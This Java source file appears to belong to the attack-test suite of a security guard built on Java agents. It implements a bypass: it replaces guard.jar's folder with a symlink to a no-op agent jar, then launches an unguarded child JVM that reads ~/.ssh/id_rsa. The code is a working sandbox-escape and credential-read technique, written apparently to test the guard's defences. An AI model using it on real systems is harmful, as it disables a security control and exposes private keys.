package dev.agentguard.apps.attacks;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.lang.instrument.Instrumentation;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;

/**
 * guard.jar itself is protected, its folder is not: in a work directory the policy lets the application
 * write, the application moves guard.jar's folder aside, puts a link of that name to a folder of its own
 * holding a "guard.jar" whose agent does nothing, and starts a granted JVM child. The parent's guard starts
 * the child with {@code -javaagent:<the same path>/guard.jar}, which now names the application's jar: the
 * child runs unguarded and reads {@code ~/.ssh/id_rsa}. (The running JVM is not affected: its boot class path
 * holds the original file open.) Properties: {@code ag.guardjar}, {@code ag.java}, {@code ag.appcp}.
 */
public final class GuardJarSwapAttack implements Attack {
    public static void main(String[] args) {
        AttackSuite.runOne("GuardJarSwapAttack", new GuardJarSwapAttack());
    }

    @Override
    public void run(AttackTarget t, AttackReport report) throws Exception {
        Path jar = Path.of(System.getProperty("ag.guardjar"));
        Path folder = jar.getParent();
        Path aside = folder.resolveSibling(folder.getFileName() + "-aside");
        Path own = folder.resolveSibling("own-tools");
        String key = t.sshKey().toString();
        report.grab("guardjar-folder-swap-child", () -> {
            Files.createDirectories(own);
            writeNoopAgent(own.resolve("guard.jar"));
            Files.move(folder, aside);
            try {
                Files.createSymbolicLink(folder, own);
                Process child = new ProcessBuilder(System.getProperty("ag.java"), "-cp", System.getProperty("ag.appcp"),
                        Reader.class.getName(), key).redirectErrorStream(true).start();
                String out = new String(child.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
                child.waitFor();
                return out;
            } finally {
                Files.deleteIfExists(folder);
                Files.move(aside, folder);
            }
        });
    }

    /** A jar whose manifest names {@link NoopAgent} as premain class; the class bytes come from our class path. */
    private static void writeNoopAgent(Path target) throws Exception {
        Manifest manifest = new Manifest();
        manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
        manifest.getMainAttributes().putValue("Premain-Class", NoopAgent.class.getName());
        String entry = NoopAgent.class.getName().replace('.', '/') + ".class";
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (InputStream in = GuardJarSwapAttack.class.getClassLoader().getResourceAsStream(entry)) {
            in.transferTo(bytes);
        }
        try (OutputStream file = Files.newOutputStream(target); JarOutputStream out = new JarOutputStream(file, manifest)) {
            out.putNextEntry(new JarEntry(entry));
            out.write(bytes.toByteArray());
            out.closeEntry();
        }
    }

    /** The agent of the application's "guard.jar": does nothing. */
    public static final class NoopAgent {
        private NoopAgent() {}

        public static void premain(String args, Instrumentation instrumentation) {
            // nothing: the child runs without a guard
        }
    }

    /** The child's program: prints the file named by its argument. */
    public static final class Reader {
        private Reader() {}

        public static void main(String[] args) throws Exception {
            System.out.println(PathEscapeAttack.readIo(args[0]));
        }
    }
}
